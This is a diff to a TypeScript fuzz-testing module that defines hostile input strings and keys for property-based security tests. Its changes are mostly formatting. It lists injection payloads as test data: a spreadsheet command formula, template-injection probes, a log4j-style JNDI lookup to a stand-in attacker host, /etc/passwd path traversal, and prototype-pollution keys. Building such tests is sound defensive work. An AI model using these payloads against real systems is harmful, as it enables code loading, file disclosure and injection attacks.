@@ -39,7 +39,9 @@ export const HOSTILE_STRINGS: readonly string[] = [
   "+cmd|' /C calc'!A0",
   '@SUM(1)',
   '-2+3',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-injection payload, sent as is
   '{{7*7}}${7*7}',
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4j-style payload, sent as is
   '${jndi:ldap://evil.example/a}',
   '../../../../etc/passwd',
   '..%2F..%2Fetc%2Fpasswd',
@@ -85,7 +87,11 @@ export const hostileString: fc.Arbitrary<string> = fc.oneof(
   {
     weight: 1,
     arbitrary: fc
-      .tuple(fc.string({ maxLength: 8 }), fc.constantFrom(...HOSTILE_STRINGS.slice(0, 40)), fc.string({ maxLength: 8 }))
+      .tuple(
+        fc.string({ maxLength: 8 }),
+        fc.constantFrom(...HOSTILE_STRINGS.slice(0, 40)),
+        fc.string({ maxLength: 8 }),
+      )
       .map(([a, b, c]) => `${a}${b}${c}`),
   },
 );
@@ -118,11 +124,26 @@ export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
 
 /** Keys that poison prototypes or do not belong. */
 export const hostileKey: fc.Arbitrary<string> = fc.oneof(
-  fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'id', 'orgId', 'schoolId', 'role', 'isAdmin', '$where', ''),
+  fc.constantFrom(
+    '__proto__',
+    'constructor',
+    'prototype',
+    'toString',
+    'hasOwnProperty',
+    'id',
+    'orgId',
+    'schoolId',
+    'role',
+    'isAdmin',
+    '$where',
+    '',
+  ),
   hostileString.filter((k) => k.length < 300),
 );
 
 /** A JSON text nested `depth` levels deep (as text, so no stack is spent building it). */
 export function deeplyNestedJson(depth: number, kind: 'array' | 'object'): string {
-  return kind === 'array' ? `${'['.repeat(depth)}1${']'.repeat(depth)}` : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
+  return kind === 'array'
+    ? `${'['.repeat(depth)}1${']'.repeat(depth)}`
+    : `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`;
 }
